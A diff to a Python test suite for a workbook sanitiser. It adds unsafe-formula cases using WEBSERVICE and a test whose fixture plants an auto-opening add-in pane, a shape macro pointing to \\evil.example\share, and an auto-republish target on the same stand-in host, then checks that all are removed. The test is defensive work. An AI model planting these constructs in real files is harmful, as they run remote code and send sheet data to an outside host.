@@ -258,6 +258,9 @@ def test_safe_members():
         ('hyperlink ("x")', True),
         ("_xlfn._xlws.WEBSERVICE(A1)", True),
         ("_xll.MyAddin(1)", True),
+        ("_xlfn.MAP(A1,_xleta.WEBSERVICE)", True),  # a function passed by name
+        ('_xlfn.LET(_xlpm.w,_xleta.WEBSERVICE,_xlpm.w("http://x"))', True),
+        ("_xlfn.MAP(A1:A3,_xleta.SUM)", False),
         ("GET.WORKBOOK(1)", True),
         ('SUM("unclosed', True),
     ],
@@ -425,3 +428,43 @@ def workbook_with_cell(path: Path) -> Path:
     book.active["E12"] = "Đạt"
     book.save(path)
     return path
+
+
+def test_add_ins_shape_macros_and_republishing_go(tmp_path):
+    """An Office add-in pane (webextension) that opens with the file, a shape whose click
+    runs a macro of a workbook on a share, and a sheet republished to a share on every save
+    were copied as they were."""
+    path = workbook_with_cell(tmp_path / "them.xlsx")
+    with zipfile.ZipFile(path) as old:
+        members = {name: old.read(name) for name in old.namelist()}
+    panes = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
+    root = members["_rels/.rels"].decode()
+    members["_rels/.rels"] = root.replace(
+        "</Relationships>",
+        f'<Relationship Id="rId9" Type="{panes}" Target="xl/webextensions/taskpanes.xml"/>'
+        "</Relationships>",
+    ).encode()
+    members["xl/webextensions/taskpanes.xml"] = b"<wetp:taskpanes xmlns:wetp='x'/>"
+    members["xl/drawings/drawing1.xml"] = (
+        b'<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/'
+        b'spreadsheetDrawing"><xdr:sp macro="\'\\\\evil.example\\share\\tool.xlsm\'!Run"/>'
+        b"</xdr:wsDr>"
+    )
+    sheet = members["xl/worksheets/sheet1.xml"].decode()
+    members["xl/worksheets/sheet1.xml"] = sheet.replace(
+        "</worksheet>",
+        '<webPublishItems count="1"><webPublishItem id="1" divId="x" sourceType="sheet" '
+        'destinationFile="\\\\evil.example\\share\\x.htm" autoRepublish="1"/>'
+        "</webPublishItems></worksheet>",
+    ).encode()
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
+        for name, data in members.items():
+            new.writestr(name, data)
+    out = _copy(path, tmp_path, "direct")
+    with zipfile.ZipFile(out) as archive:
+        texts = {name: archive.read(name) for name in archive.namelist()}
+    assert not [name for name in texts if "webextensions" in name]
+    assert b"webextension" not in texts["_rels/.rels"]
+    assert b'macro=""' in texts["xl/drawings/drawing1.xml"]
+    assert b"evil.example" not in b"".join(texts.values())
+    assert openpyxl.load_workbook(out)[DATA_SHEET]["E12"].comment is not None
